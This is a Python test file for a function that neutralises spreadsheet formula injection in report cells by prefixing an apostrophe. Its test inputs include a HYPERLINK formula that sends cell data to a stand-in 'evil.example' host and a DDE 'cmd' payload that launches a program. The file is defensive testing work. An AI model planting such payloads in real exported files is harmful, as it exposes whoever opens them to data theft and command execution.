"""Cells that no spreadsheet takes for a formula."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.report.report_rows import harmless
from worker.contract import encode_key


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "-SUM(A1:A9)",
        "-A1+1",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",  # noqa: RUF001 (the wide sign is what is tested)
        "'=1",
    ],
)
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    """And is else as it was."""
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "-", "my-bucket", "-UqP3_a.b-", "-a/b%20c~", "not so: =1", "403", "AccessDenied", "a\n=1"]
)
def test_others_stay_as_they_are(cell: str) -> None:
    """Version ids that begin with a hyphen among them."""
    assert harmless(cell) == cell


@given(st.text(min_size=1))
def test_an_encoded_key_is_never_changed(key: str) -> None:
    """Whatever it begins with: a report can be split again, and no key is a formula."""
    assert harmless(encode_key(key)) == encode_key(key)
    assert encode_key(key)[0] in string.ascii_letters + string.digits + "_.-~/%"


@given(st.text())
def test_nothing_is_lost(cell: str) -> None:
    """The apostrophe taken away, a cell is what it was."""
    assert harmless(cell).removeprefix("'") == cell
